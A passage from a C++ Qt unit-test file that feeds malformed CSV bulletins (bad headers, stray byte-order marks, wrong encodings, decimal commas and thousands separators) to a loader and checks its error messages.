                                      << QStringLiteral("unexpected text after a closing quote");
    QTest::addRow("missing-header-column") << QByteArray(
        "section,indicator,value,unit,province_value,province_derived,rank,period,source\n经济,增速,1,%,,,,,来源\n")
                                           << QStringLiteral("bad.csv:1: ")
                                           << QStringLiteral("the header lacks column(s) rank_of");
    QTest::addRow("duplicate-header-column")
        << QByteArray("value,") + h + "1,经济,增速,1.7,%,,,,,,来源\n"
        << QStringLiteral("bad.csv:1: column value: ") << QStringLiteral("the header names this column twice");
    QTest::addRow("empty-file") << QByteArray() << QStringLiteral("bad.csv:1:1: ")
                                << QStringLiteral("the file is empty");
    QTest::addRow("bom-only") << Utf8Bom << QStringLiteral("bad.csv:1:1: ") << QStringLiteral("the file is empty");
    QTest::addRow("header-only") << h << QStringLiteral("bad.csv:2: ")
                                 << QStringLiteral("the table has a header but no indicator rows");
    QTest::addRow("line-after-two-line-field")
        << h + "经济,增速,1.7,%,,,,,,\"第一行\n第二行\"\n经济,增速,abc,%,,,,,,来源\n"
        << QStringLiteral("bad.csv:4: column value: ") << QStringLiteral("found \"abc\"");
    QTest::addRow("crlf-lines") << QByteArray(h).replace("\n", "\r\n")
            + "经济,增速,1,%,,,,,,来源\r\n经济,增速,x,%,,,,,,来源\r\n"
                                << QStringLiteral("bad.csv:3: column value: ") << QStringLiteral("found \"x\"");
    QTest::addRow("neither-utf8-nor-gb18030")
        << h + "经济,增速,\xFF,%,,,,,,来源\n"
        << QStringLiteral("bad.csv:2:7: ") << QStringLiteral("neither UTF-8 nor GB18030");
    QTest::addRow("empty-source") << h + "经济,增速,1.7,%,,,,,,\n"
                                  << QStringLiteral("bad.csv:2: column source: ")
                                  << QStringLiteral("expected the sentence the figure comes from");
    QTest::addRow("negative-completion") << QByteArray(h).replace("\n", ",completion\n")
            + "经济,增速,1.7,%,,,,,,来源,-5\n"
                                         << QStringLiteral("bad.csv:2: column completion: ")
                                         << QStringLiteral(
                                                "expected a share of the target of at least 0 percent, found -5");
    QTest::addRow("utf32le-bom") << QByteArray("\xFF\xFE\0\0s\0\0\0", 8) << QStringLiteral("bad.csv:1:1: ")
                                 << QStringLiteral("the file is UTF-32 text; save it as UTF-8");
    QTest::addRow("utf32be-bom") << QByteArray("\0\0\xFE\xFF\0\0\0s", 8) << QStringLiteral("bad.csv:1:1: ")
                                 << QStringLiteral("the file is UTF-32 text; save it as UTF-8");
    QTest::addRow("utf16le-bom") << QByteArray("\xFF\xFEs\0e\0", 6) << QStringLiteral("bad.csv:1:1: ")
                                 << QStringLiteral("the file is UTF-16 text");
    // Where two exported files were joined: the second one's byte-order mark begins a row.
    QTest::addRow("bom-at-start-of-a-later-row")
        << Utf8Bom + h + good + Utf8Bom + good << QStringLiteral("bad.csv:3:1: ")
        << QStringLiteral("a byte-order mark (U+FEFF) inside the text");
    QTest::addRow("bom-inside-a-quoted-field")
        << h + "经济,增速,1.7,%,,,,,,\"来源" + Utf8Bom + "\"\n"
        << QStringLiteral("bad.csv:2:21: ") << QStringLiteral("a byte-order mark (U+FEFF) inside the text");
    QTest::addRow("duplicate-id") << QByteArray("id,") + h + "x,经济,增速,1,%,,,,,,来源\nx,经济,增速,2,%,,,,,,来源\n"
                                  << QStringLiteral("bad.csv:3: column id: ")
                                  << QStringLiteral("duplicate indicator id \"x\" (first used at line 2)");
    QTest::addRow("bad-id") << QByteArray("id,") + h + "a b,经济,增速,1,%,,,,,,来源\n"
                            << QStringLiteral("bad.csv:2: column id: ") << QStringLiteral("expected an id");
}

void TestCsv::problems()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QString, location);
    QFETCH(QString, phrase);

    const LoadResult result = BulletinLoader::loadCsv(bytes, QStringLiteral("bad.csv"));
    QVERIFY2(!result.document, "a table with problems must not yield a document");
    QVERIFY(!result.problems.isEmpty());
    bool found = false;
    for (const LoadProblem &problem : result.problems) {
        const QString text = problem.toString();
        found = found || (text.startsWith(location) && text.contains(phrase));
    }
    QVERIFY2(found,
        qPrintable(
            QStringLiteral("expected %1…%2, got:\n%3").arg(location, phrase, describeProblems(result.problems))));
}

void TestCsv::commasInNumbers_data()
{
    QTest::addColumn<QByteArray>("rows");
    QTest::addColumn<QString>("problem"); // empty: the table is read
    QTest::addColumn<double>("value"); // of the first indicator, when read

    const QByteArray other("经济,乙,1.7,%,,,,,,来源\n");
    const QByteArray otherWhole("经济,乙,3,%,,,,,,来源\n");
    QTest::addRow("decimal-comma") << QByteArray("经济,甲,\"1,5\",%,,,,,,来源\n") + otherWhole
                                   << QStringLiteral("bad.csv:2: column value: expected a number with a decimal point, "
                                                     "found \"1,5\": a decimal comma is not read (write 1.5)")
                                   << 0.0;
    QTest::addRow("decimal-comma-1-4") << QByteArray("经济,甲,\"1,4\",%,,,,,,来源\n")
                                       << QStringLiteral("bad.csv:2: column value: expected a number with a decimal "
                                                         "point, found \"1,4\"")
                                       << 0.0;
    // A point elsewhere in the file does not make "1,5" a thousands separator.
    QTest::addRow("decimal-comma-in-a-point-file")
        << other + "经济,甲,\"1,5\",%,,,,,,来源\n"
        << QStringLiteral("bad.csv:3: column value: expected a number with a decimal point") << 0.0;
    QTest::addRow("decimal-comma-province-value")
        << QByteArray("经济,甲,1.7,%,\"1,3\",,,,,来源\n")
        << QStringLiteral("bad.csv:2: column province_value: expected a number with a decimal point") << 0.0;
    QTest::addRow("decimal-comma-and-point") << QByteArray("经济,甲,\"1.234,5\",%,,,,,,来源\n")
                                             << QStringLiteral("bad.csv:2: column value: expected a finite number, "
                                                               "found \"1.234,5\"")
                                             << 0.0;
    QTest::addRow("groups-not-of-three") << QByteArray("经济,甲,\"12,34,567\",%,,,,,,来源\n")
                                         << QStringLiteral("bad.csv:2: column value: expected a finite number, found "
                                                           "\"12,34,567\": a comma may only separate thousands")
                                         << 0.0;
    // "12,345" alone could be twelve thousand or twelve; nothing in the file tells.
    QTest::addRow("thousands-ambiguous") << QByteArray("经济,甲,\"12,345\",%,,,,,,来源\n") + otherWhole
                                         << QStringLiteral("bad.csv:2: column value: \"12,345\" could be 12345 or "
                                                           "12.345")
                                         << 0.0;
    QTest::addRow("thousands-with-point") << QByteArray("经济,甲,\"1,234.5\",%,,,,,,来源\n") << QString() << 1234.5;
    QTest::addRow("thousands-negative") << QByteArray("经济,甲,\"-1,234.5\",%,,,,,,来源\n") << QString() << -1234.5;
    QTest::addRow("thousands-two-groups")
        << QByteArray("经济,甲,\"1,234,567\",%,,,,,,来源\n") << QString() << 1234567.0;
    QTest::addRow("thousands-in-a-point-file")
        << QByteArray("经济,甲,\"12,345\",%,,,,,,来源\n") + other << QString() << 12345.0;
    QTest::addRow("thousands-point-in-gap-column")
        << QByteArray("经济,甲,\"12,345\",%,,,,,,来源,0.5\n") << QString() << 12345.0;
}

void TestCsv::commasInNumbers()
{
    QFETCH(QByteArray, rows);
    QFETCH(QString, problem);
    QFETCH(double, value);
    const bool withGap = QByteArray(QTest::currentDataTag()).contains("gap");
    const QByteArray bytes = header().toUtf8() + (withGap ? ",gap\n" : "\n") + rows;
    const LoadResult result = BulletinLoader::loadCsv(bytes, QStringLiteral("bad.csv"));
    if (problem.isEmpty()) {
        QVERIFY2(result.ok(), qPrintable(describeProblems(result.problems)));
        const Indicator *first = indicatorByName(*result.document, QStringLiteral("甲"));
        QVERIFY(first);
        QCOMPARE(first->value, std::optional<double>(value));
        return;
    }
    QVERIFY(!result.document);
    QVERIFY2(describeProblems(result.problems).startsWith(problem), qPrintable(describeProblems(result.problems)));
}

QTEST_GUILESS_MAIN(TestCsv)

#include "tst_csv.moc"
